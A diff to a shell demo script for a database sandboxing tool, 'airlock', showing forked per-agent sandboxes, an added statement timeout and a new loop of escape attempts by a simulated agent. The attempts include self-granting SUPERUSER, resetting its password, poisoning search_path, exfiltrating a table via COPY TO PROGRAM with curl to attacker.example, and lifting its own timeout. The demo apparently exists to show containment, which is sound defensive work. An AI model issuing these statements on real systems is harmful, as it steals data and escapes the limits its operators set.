@@ -38,7 +38,7 @@ airlock rm auditor >/dev/null
 
 step "Fork two sandboxes, one per agent task"
 start=$(date +%s%N)
-export DATABASE_URL=$(airlock fork shop --name agent-a --ttl 10m --label task=cleanup)
+export DATABASE_URL=$(airlock fork shop --name agent-a --ttl 10m --label task=cleanup --statement-timeout 5s)
 end=$(date +%s%N)
 airlock fork shop --name agent-b --ttl 10m --label task=report >/dev/null
 echo "agent-a's DATABASE_URL is ready (fork took $(( (end - start) / 1000000 )) ms, CLI included):"
@@ -50,6 +50,24 @@ step "Agent A runs its confident, destructive statement"
 echo "agent-a> DELETE FROM orders WHERE status = 'pending' OR TRUE;"
 airlock psql agent-a -- -Xc "DELETE FROM orders WHERE status = 'pending' OR TRUE"
 echo "orders in agent-a: $(count agent-a)"
+
+step "Agent A tries to reach past its sandbox"
+for attempt in \
+  "ALTER ROLE airlock_agent SUPERUSER" \
+  "ALTER ROLE airlock_agent PASSWORD 'now-only-i-know-it'" \
+  "ALTER DATABASE app SET search_path = evil, pg_catalog" \
+  "COPY orders TO PROGRAM 'curl -d @- https://attacker.example'" \
+  "SET statement_timeout = 0; SELECT pg_sleep(3600)"; do
+  echo "agent-a> $attempt;"
+  if [ "${attempt#SET statement_timeout}" != "$attempt" ]; then
+    # Its own 5 s limit lifted, the runaway is ended from outside by the watchdog.
+    start=$(date +%s)
+    airlock psql agent-a -- -Xc "$attempt" 2>&1 | grep -E 'ERROR' | sed 's/^/  /' || true
+    echo "  (ended by the watchdog after $(( $(date +%s) - start )) s, not 3600)"
+  else
+    airlock psql agent-a -- -Xc "$attempt" 2>&1 | grep -E 'ERROR|DETAIL' | sed 's/^/  /' || true
+  fi
+done
 
 step "Nothing else changed"
 echo "orders in agent-b:           $(count agent-b)"
